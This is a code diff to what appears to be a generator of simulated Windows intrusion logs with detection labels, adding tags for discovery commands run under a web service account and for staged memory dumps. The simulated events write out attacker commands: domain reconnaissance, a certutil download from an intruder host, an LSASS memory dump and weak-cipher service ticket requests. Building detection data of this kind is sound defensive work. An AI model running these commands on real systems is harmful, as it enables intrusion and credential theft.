@@ -278,6 +278,8 @@ TEMP = "Program Runs From The Temporary Folder Of Windows"
 FOLDER = "Program Runs From A Writable Folder Inside Windows"
 PUBLIC = "Program Runs From A Shared Profile Folder"
 ENCODED = "PowerShell With An Encoded Command"
+BY_SERVICE = "Discovery Command Under The Account Of A Web Or Database Service"
+STAGED = "Archive Or Dump In A Staging Folder"
 
 
 def encoded_command():
@@ -296,11 +298,12 @@ def take_the_web_server():
     put("web-01/Sysmon", time, created(time, W3WP, POOL, SHELL),
         ["Web Server Writes A Script Into A Folder That It Serves"])
     web_step("02:13:40", CMD, "cmd.exe /c whoami /all", [SPAWNED], W3WP)
-    web_step("02:13:41", SYSTEM32 + "whoami.exe", "whoami /all", [])
+    web_step("02:13:41", SYSTEM32 + "whoami.exe", "whoami /all", [BY_SERVICE])
     web_step("02:15:12", CMD, 'cmd.exe /c net group "Domain Admins" /domain', [SPAWNED], W3WP)
-    web_step("02:15:13", SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', [DISCOVERY])
+    web_step("02:15:13", SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain',
+             [DISCOVERY, BY_SERVICE])
     web_step("02:16:30", SYSTEM32 + "nltest.exe", "nltest /dclist:example.internal",
-             [SPAWNED, DISCOVERY], W3WP)
+             [SPAWNED, DISCOVERY, BY_SERVICE], W3WP)
     web_step("02:21:07", SYSTEM32 + "certutil.exe",
              f"certutil.exe -urlcache -split -f http://{INTRUDER_2}/c/upd.txt "
              "C:\\Windows\\Temp\\upd.exe", ["Certutil Fetches A File From A Web Address"])
@@ -334,7 +337,7 @@ def steal_credentials():
         ["Memory Of The Logon Process Opened For Reading"])
     time = at(1, "03:02:20")
     put("web-01/Sysmon", time, created(time, SYSTEM32 + "rundll32.exe", system,
-                                       "C:\\Windows\\debug\\report.dmp"))
+                                       "C:\\Windows\\debug\\report.dmp"), [STAGED])
     for i, service in enumerate(["svc-backup", "svc-sql", "svc-report", "svc-bms"]):
         put("dc-01/Security", at(1, f"22:04:{10 + i}"), ticket("svc-web", service, 0x17, WEB_IP),
             ["Service Ticket With A Weak Cipher For A User Account"])
